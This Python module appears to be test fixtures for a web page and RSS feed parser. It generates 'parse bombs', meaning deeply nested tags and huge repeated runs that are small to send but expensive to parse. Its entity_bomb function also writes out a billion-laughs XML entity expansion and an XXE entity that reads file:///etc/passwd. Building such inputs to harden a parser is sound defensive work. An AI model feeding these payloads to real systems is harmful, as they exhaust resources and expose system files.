"""Pages and feeds that are small on the wire and large once they are parsed.

Each parse bomb stands behind a whole article, as one in a reader's comment would; ``share`` makes
them smaller for a test.
"""

PARSE: dict[str, tuple[str, int, str]] = {
    "div in div": ("<div>", 200_000, ""),
    "b in b": ("<b>", 100_000, ""),
    "adoption": ("<p><b><i><u><a href=x>", 20_000, ""),
    "table in table": ("<table><tr><td>", 40_000, ""),
    "attributes": (" a{n}=1", 50_000, "<i {}>x</i>"),
    "less than": ("<", 500_000, ""),
    "comments": ("<!--", 75_000, ""),
    "ampersands": ("&amp", 250_000, ""),
    "flat p": ("<p>一二三四五六七八九十", 200_000, ""),
    "blanks": (" ", 4_000_000, "<p>{}</p>"),
    "nbsp": ("\n\xa0", 1_000_000, ""),
    "links": ('<a href="/zt/{n}.html">专题</a>', 50_000, ""),
    "one word": ("w", 4_000_000, ""),
    "one href": ("h", 2_000_000, '<a href="/{}">x</a>'),
    "quotes": ("'\"", 500_000, '<i title="{}'),
    "br": ("文<br><br>", 150_000, ""),
}
"""Name → what is repeated, how often, what stands around it."""


def parse_bomb(name: str, page: str, share: float = 1.0) -> str:
    """Return a page with a bomb before its end."""
    piece, times, around = PARSE[name]
    times = max(1, int(times * share))
    if "{n}" in piece:
        charge = "".join(piece.replace("{n}", str(number)) for number in range(times))
    else:
        charge = piece * times
    charge = around.replace("{}", charge) if around else charge
    before, end, behind = page.rpartition("</body>")
    return f"{before}<div>{charge}</div>{end}{behind}"


def entity_bomb(entry: str) -> bytes:
    """Return a feed whose title is a billion laughs, and a file of the machine."""
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    )  # fmt: skip
    return (
        f'<?xml version="1.0" encoding="utf-8"?><!DOCTYPE rss [<!ENTITY l0 "哈哈">{laughs}'
        '<!ENTITY file SYSTEM "file:///etc/passwd">]>'
        f"<rss version='2.0'><channel><title>&l9;&file;</title>{entry}</channel></rss>"
    ).encode()
